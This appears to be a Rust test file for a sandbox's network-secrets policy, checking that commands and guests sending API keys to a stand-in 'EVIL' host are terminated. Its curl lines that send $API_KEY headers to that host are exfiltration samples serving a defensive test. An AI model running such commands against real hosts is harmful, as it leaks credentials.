//! The end of a command: what ends it, and what goes with it.

use serde_json::json;

use super::{EVIL, GOOD, Site, config, run};
use crate::guest::{Guest, Setup};
use crate::needs;
use crate::process;
use crate::servers::Family;

#[test]
fn a_command_whose_network_wants_it_to_end_is_ended() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    let site = Site::new(&["http/1.1"]);
    let ends = json!({"secrets": {"violation_action": "block-and-terminate"}});
    // It would wait for ever; `may`: a request that is as it should be ends nobody.
    let ask = |name: &str, then: &str| {
        let url = site.url(name, "/p");
        format!("curl -sS -m 20 -H \"X-Key: $API_KEY\" {url}; {then}")
    };
    let may = run(&config(&site, ends.clone()), &ask(GOOD, "exit 7"));
    assert_eq!(may.code, 7, "{may:?}");
    let finished = run(&config(&site, ends), &ask(EVIL, "exec tail -f /dev/null"));
    assert_eq!(finished.code, 128 + 9, "{finished:?}");
    assert!(finished.errors.contains("block-and-terminate"), "{finished:?}");
}

#[test]
fn an_attached_guest_whose_network_wants_it_to_end_is_offline() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    let site = Site::new(&["http/1.1"]);
    let config = config(&site, json!({"secrets": {"violation_action": "block-and-terminate"}}));
    let guest = Guest::with(&Setup { config: Some(config), ..Setup::default() });
    let mut curl = guest.command("curl");
    let to = format!("{EVIL}:{}:{}", site.port, guest.gateway(Family::V4));
    curl.args(["-sSk", "-m", "20", "--resolve", &to, "-H", "X-Key: $MSB_API_KEY"]);
    // Whether it still hears of it is as it happens.
    let _ = process::run(curl.arg(site.url(EVIL, "/p")));
    let (engine, _namespace) = guest.into_parts();
    let ended = engine.finish();
    assert_eq!(ended.code, 1, "{ended:?}");
    assert!(ended.errors.contains("block-and-terminate"), "{ended:?}");
}

#[test]
fn the_authorities_that_a_command_is_told_go_with_it() {
    if !needs::are_met(&[]) {
        return;
    }
    let site = Site::new(&["http/1.1"]);
    let shown = "test -s $SSL_CERT_FILE && echo $SSL_CERT_FILE";
    let finished = run(&config(&site, json!({})), shown);
    let file = std::path::Path::new(finished.output.trim());
    assert!(finished.code == 0 && file.is_absolute(), "{finished:?}");
    assert!(!file.exists() && !file.parent().unwrap().exists(), "{finished:?}");
}
